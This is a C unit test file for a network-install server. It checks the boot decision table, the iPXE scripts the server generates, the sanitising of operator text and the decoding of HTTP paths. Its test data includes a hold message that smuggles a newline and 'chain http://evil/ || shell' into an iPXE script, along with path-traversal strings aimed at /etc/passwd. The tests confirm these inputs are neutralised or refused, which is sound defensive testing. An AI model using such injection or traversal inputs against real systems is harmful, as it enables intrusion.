/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The boot decision (answer_decide: every state under both policies) and the
 * iPXE scripts it leads to: what each must contain (the token, the report
 * URL, discover mode, an assigned profile, the local boot per platform, the
 * hold loop) and what it must not (operator or machine text that could
 * become iPXE commands). Also the path decoding of the HTTP edge. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "answer.h"
#include "basic/strutil.h"
#include "http.h"

#define BASE "http://10.0.2.100:8080/"
#define TOKEN "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

static const AnswerScript ctx = { .base_url = BASE, .append = "quiet inst.debug=1" };

static void assert_contains(const char *s, const char *want) {
        if (!strstr(s, want))
                fail_msg("missing \"%s\" in:\n%s", want, s);
}

static void assert_lacks(const char *s, const char *unwanted) {
        if (strstr(s, unwanted))
                fail_msg("unexpected \"%s\" in:\n%s", unwanted, s);
}

/* Every line of a script: printable ASCII only, no line that is not ours. */
static void assert_script_clean(const char *s) {
        assert_true(startswith(s, "#!ipxe\n") != NULL);
        for (const char *p = s; *p; p++)
                assert_true(*p == '\n' || (*p >= 0x20 && *p < 0x7f));
}

static void test_decide_table(void **state) {
        static const struct {
                bool known;
                MachineState st;
                SitePolicy policy;
                AnswerKind want;
        } table[] = {
                { false, 0, SITE_POLICY_INSTALL, ANSWER_INSTALL },
                { false, 0, SITE_POLICY_DISCOVER, ANSWER_DISCOVER },
                { true, MACHINE_DISCOVERED, SITE_POLICY_INSTALL, ANSWER_DISCOVER },
                { true, MACHINE_DISCOVERED, SITE_POLICY_DISCOVER, ANSWER_DISCOVER },
                { true, MACHINE_READY, SITE_POLICY_INSTALL, ANSWER_INSTALL },
                { true, MACHINE_READY, SITE_POLICY_DISCOVER, ANSWER_INSTALL },
                { true, MACHINE_INSTALLING, SITE_POLICY_INSTALL, ANSWER_INSTALL },
                { true, MACHINE_INSTALLING, SITE_POLICY_DISCOVER, ANSWER_INSTALL },
                { true, MACHINE_INSTALLED, SITE_POLICY_INSTALL, ANSWER_LOCAL },
                { true, MACHINE_INSTALLED, SITE_POLICY_DISCOVER, ANSWER_LOCAL },
                { true, MACHINE_FAILED, SITE_POLICY_INSTALL, ANSWER_HOLD },
                { true, MACHINE_FAILED, SITE_POLICY_DISCOVER, ANSWER_HOLD },
                { true, MACHINE_HELD, SITE_POLICY_INSTALL, ANSWER_HOLD },
                { true, MACHINE_HELD, SITE_POLICY_DISCOVER, ANSWER_HOLD },
        };
        /* Every state is in the table, under both policies. */
        assert_int_equal(ELEMENTSOF(table), 2 + 2 * _MACHINE_STATE_MAX);

        for (size_t i = 0; i < ELEMENTSOF(table); i++) {
                Machine m = { .id = 1, .mac = (char *) "52:54:00:12:34:56", .state = table[i].st };
                AnswerKind got = answer_decide(table[i].known ? &m : NULL, table[i].policy);
                if (got != table[i].want)
                        fail_msg("row %zu: state %s policy %d: got %s, want %s", i,
                                 table[i].known ? machine_state_to_string(table[i].st) : "(unknown)", table[i].policy,
                                 answer_kind_to_string(got), answer_kind_to_string(table[i].want));
        }
}

static void test_initial_state(void **state) {
        assert_int_equal(answer_initial_state(SITE_POLICY_INSTALL), MACHINE_READY);
        assert_int_equal(answer_initial_state(SITE_POLICY_DISCOVER), MACHINE_DISCOVERED);
}

static void test_install_script(void **state) {
        _cleanup_free_ char *s = answer_script_installer(&ctx, 7, TOKEN, NULL, false);

        assert_non_null(s);
        assert_script_clean(s);
        assert_contains(s, "kernel " BASE "vmlinuz initrd=initrd.img console=tty0 console=ttyS0,115200 ");
        assert_contains(s, " inst.profiles=" BASE "profiles/ ");
        assert_contains(s, " inst.mac=${netX/mac} inst.uuid=${uuid} inst.serial=${serial:uristring} ");
        assert_contains(s, " inst.report=" BASE "api/v1/machines/7/report ");
        assert_contains(s, " inst.report.token=" TOKEN " ");
        assert_contains(s, " quiet inst.debug=1 ${extra_args} ");
        assert_contains(s, "\ninitrd " BASE "initrd.img || goto failed\n");
        assert_contains(s, "\nboot || goto failed\n");
        assert_lacks(s, "inst.mode=discover");
        assert_lacks(s, "inst.wait=");
        assert_lacks(s, "inst.profile=");
}

static void test_install_script_assigned(void **state) {
        _cleanup_free_ char *s = answer_script_installer(&ctx, 12, TOKEN, "web.yaml", false);

        assert_non_null(s);
        assert_script_clean(s);
        assert_contains(s, " inst.profile=" BASE "profiles/web.yaml ");
        assert_lacks(s, "inst.profiles=");
        assert_contains(s, " inst.report=" BASE "api/v1/machines/12/report ");
}

static void test_discover_script(void **state) {
        AnswerScript plain = { .base_url = BASE };
        _cleanup_free_ char *s = answer_script_installer(&plain, 3, TOKEN, NULL, true);

        assert_non_null(s);
        assert_script_clean(s);
        assert_contains(s, " inst.mode=discover inst.wait=" BASE "api/v1/machines/3/next");
        assert_contains(s, " inst.report=" BASE "api/v1/machines/3/report inst.report.token=" TOKEN);
        assert_contains(s, " inst.profiles=" BASE "profiles/ ");
        assert_lacks(s, "  ");  /* no append: no double space */
}

static void test_local_script(void **state) {
        _cleanup_free_ char *bios = answer_script_local("pcbios"), *efi = answer_script_local("efi"),
                            *unknown = answer_script_local(NULL);

        assert_script_clean(bios);
        assert_contains(bios, "\nsanboot --no-describe --drive 0x80 || exit\n");
        assert_lacks(bios, "kernel");
        assert_script_clean(efi);
        assert_contains(efi, "\nexit\n");
        assert_lacks(efi, "sanboot");
        assert_lacks(efi, "kernel");
        /* An unknown platform: try the BIOS disk, fall back to the firmware. */
        assert_contains(unknown, "sanboot --no-describe --drive 0x80 || exit");
}

static void test_hold_script(void **state) {
        _cleanup_free_ char *s =
                answer_script_hold(&ctx, "rack 4 \"maintenance\" $ {x} ${net0/ip}\nchain http://evil/ || shell; #x");

        assert_non_null(s);
        assert_script_clean(s);
        assert_contains(s, "\necho rack 4 _maintenance_ _ _x_ __net0/ip__chain http://evil/ __ shell_ _x\n");
        assert_contains(s, "\nsleep 30\n");
        assert_contains(s, "\nchain --replace --autofree " BASE
                           "ipxe/answer?mac=${netX/mac}&uuid=${uuid}&serial=${serial:uristring}&platform=${platform}"
                           "&arch=${buildarch}\n");
        /* The message is one echo line: nothing of it begins a line. */
        assert_lacks(s, "\nchain http://evil");
        assert_lacks(s, "kernel");
}

static void test_hold_message(void **state) {
        Machine failed = { .id = 4, .mac = (char *) "52:54:00:00:00:04", .state = MACHINE_FAILED,
                           .phase = (char *) "image", .last_error = (char *) "checksum mismatch" };
        Attempt a = { .id = 9, .machine_id = 4, .number = 2, .exit_status = 7 };
        _cleanup_free_ char *m1 = answer_hold_message(&failed, &a);
        assert_string_equal(m1, "install 2 failed in phase image: checksum mismatch. site-server reinstall|release 4");

        failed.last_error = NULL;
        _cleanup_free_ char *m2 = answer_hold_message(&failed, &a);
        assert_string_equal(m2, "install 2 failed in phase image: exit status 7. site-server reinstall|release 4");

        failed.phase = NULL;
        a.exit_status = -1;
        _cleanup_free_ char *m3 = answer_hold_message(&failed, &a);
        assert_string_equal(m3, "install 2 failed in phase unknown: it did not finish. site-server reinstall|release 4");

        Machine held = { .id = 5, .state = MACHINE_HELD, .message = (char *) "waiting for the new disks" };
        _cleanup_free_ char *m4 = answer_hold_message(&held, NULL);
        assert_string_equal(m4, "waiting for the new disks");
        held.message = NULL;
        _cleanup_free_ char *m5 = answer_hold_message(&held, NULL);
        assert_string_equal(m5, "held by the operator. site-server release 5");
}

static void test_boot_script(void **state) {
        _cleanup_free_ char *s = answer_script_boot(&ctx);

        assert_script_clean(s);
        assert_contains(s, "\ndhcp && goto dhcp_ok\n");
        assert_contains(s, "\niseq ${tries} 10 && goto failed\n");
        assert_contains(s, "\nchain --replace --autofree " BASE "ipxe/answer?mac=${netX/mac}&uuid=${uuid}"
                           "&serial=${serial:uristring}&platform=${platform}&arch=${buildarch} || goto failed\n");
}

static void test_ipxe_safe(void **state) {
        _cleanup_free_ char *a = answer_ipxe_safe("plain text, 1-2 (ok): a=b/c"), *b = answer_ipxe_safe("\xc3\xa9\t|&"),
                            *c = NULL;
        char longer[400];

        assert_string_equal(a, "plain text, 1-2 (ok): a=b/c");
        assert_string_equal(b, "_____");
        memset(longer, 'x', sizeof(longer) - 1);
        longer[sizeof(longer) - 1] = '\0';
        c = answer_ipxe_safe(longer);
        assert_int_equal(strlen(c), 200);
}

static void test_decode_path(void **state) {
        static const struct {
                const char *raw, *want; /* want NULL: refused */
                int err;
        } table[] = {
                { "/", "/", 0 },
                { "/vmlinuz", "/vmlinuz", 0 },
                { "/profiles/web.yaml?x=1", "/profiles/web.yaml", 0 },
                { "/profiles/", "/profiles/", 0 },
                { "/a%20b", "/a b", 0 },
                { "/api/v1/machines/52%3a54%3A00%3a12%3a34%3a56", "/api/v1/machines/52:54:00:12:34:56", 0 },
                { "/%252e%252e/etc/passwd", "/%2e%2e/etc/passwd", 0 }, /* decoded once: a name, not .. */
                { "/..%2e", "/...", 0 },
                { "/../etc/passwd", NULL, -EPERM },
                { "/a/../../etc/passwd", NULL, -EPERM },
                { "/%2e%2e/etc/passwd", NULL, -EPERM },
                { "/%2E%2E", NULL, -EPERM },
                { "/.", NULL, -EPERM },
                { "/a/./b", NULL, -EPERM },
                { "/%2e%2e%2fetc%2fpasswd", NULL, -EPERM },
                { "/profiles/..%2f..%2fetc/passwd", NULL, -EPERM },
                { "/a%2Fb", NULL, -EPERM },
                { "/a%5cb", NULL, -EPERM },
                { "/a\\b", NULL, -EPERM },
                { "/a%00b", NULL, -EPERM },
                { "/a%0ab", NULL, -EPERM },
                { "//etc/passwd", NULL, -EPERM },
                { "/a//b", NULL, -EPERM },
                { "/a%", NULL, -EINVAL },
                { "/a%4", NULL, -EINVAL },
                { "/a%zz", NULL, -EINVAL },
                { "vmlinuz", NULL, -EINVAL },
                { "", NULL, -EINVAL },
                { "http://example.com/x", NULL, -EINVAL },
        };
        for (size_t i = 0; i < ELEMENTSOF(table); i++) {
                char *got = NULL;
                const char *reason = NULL;
                int r = http_decode_path(table[i].raw, &got, &reason);
                if (table[i].want) {
                        if (r < 0)
                                fail_msg("%s: refused (%s)", table[i].raw, reason);
                        assert_string_equal(got, table[i].want);
                } else {
                        if (r != table[i].err)
                                fail_msg("%s: got %d (%s), want %d", table[i].raw, r, got ? got : reason, table[i].err);
                        assert_non_null(reason);
                        assert_null(got);
                }
                free(got);
        }
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_decide_table),
                cmocka_unit_test(test_initial_state),
                cmocka_unit_test(test_install_script),
                cmocka_unit_test(test_install_script_assigned),
                cmocka_unit_test(test_discover_script),
                cmocka_unit_test(test_local_script),
                cmocka_unit_test(test_hold_script),
                cmocka_unit_test(test_hold_message),
                cmocka_unit_test(test_boot_script),
                cmocka_unit_test(test_ipxe_safe),
                cmocka_unit_test(test_decode_path),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
